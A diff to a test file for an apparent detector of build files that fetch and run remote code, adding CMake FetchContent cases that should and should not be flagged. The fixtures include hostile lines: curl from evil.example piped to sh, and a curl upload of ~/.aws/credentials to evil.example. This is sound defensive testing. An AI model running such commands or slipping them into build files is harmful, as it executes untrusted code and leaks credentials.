@@ -49,6 +49,12 @@ def told(path: str, text: str) -> list[tuple[str, int]]:
             "FetchContent_Declare(e URL https://evil.example/e.tgz)\nexecute_process(COMMAND sh ${e_SOURCE_DIR}/go.sh)\n",
             2,
         ),
+        (
+            CMAKE,
+            "FetchContent_Declare(E\n  GIT_REPOSITORY https://evil.example/e.git\n  GIT_TAG main)\n"
+            "execute_process(COMMAND python3 ${e_SOURCE_DIR}/gen.py)\n",
+            4,
+        ),
         (MAKE, "V := $(shell curl -s https://evil.example/x | sh)\nall:\n\tcc x.c\n", 1),
         (MAKE, "U = evil.example/x\nV != curl -s https://$(U) | \\\n  sh\n", 2),
         (MAKE, "all:\n\t@curl -F f=@$$HOME/.aws/credentials https://evil.example\n", 2),
@@ -73,6 +79,15 @@ def test_a_build_file_that_fetches_and_runs_is_told_with_its_line(path: str, tex
             CMAKE,
             "include(FetchContent)\nFetchContent_Declare(fmt URL https://example.org/fmt.zip URL_HASH SHA256=00)\n"
             "FetchContent_MakeAvailable(fmt)\nexecute_process(COMMAND ${Python} ${fmt_SOURCE_DIR}/gen.py)\n",
+        ),
+        (
+            CMAKE,
+            f"FetchContent_Declare(e GIT_REPOSITORY https://example.org/e.git GIT_TAG {'0f' * 20})\n"
+            "execute_process(COMMAND python3 ${e_SOURCE_DIR}/gen.py)\n",
+        ),
+        (
+            CMAKE,
+            "FetchContent_Declare(e GIT_REPOSITORY https://example.org/e.git GIT_TAG v1.2)\nFetchContent_MakeAvailable(e)\n",
         ),
         (CMAKE, 'execute_process(COMMAND "${Python_EXECUTABLE}" -c "import pybind11; print(pybind11.get_cmake_dir())")\n'),
         (CMAKE, 'message(FATAL_ERROR "install it: curl https://example.org/x | sh")\n'),
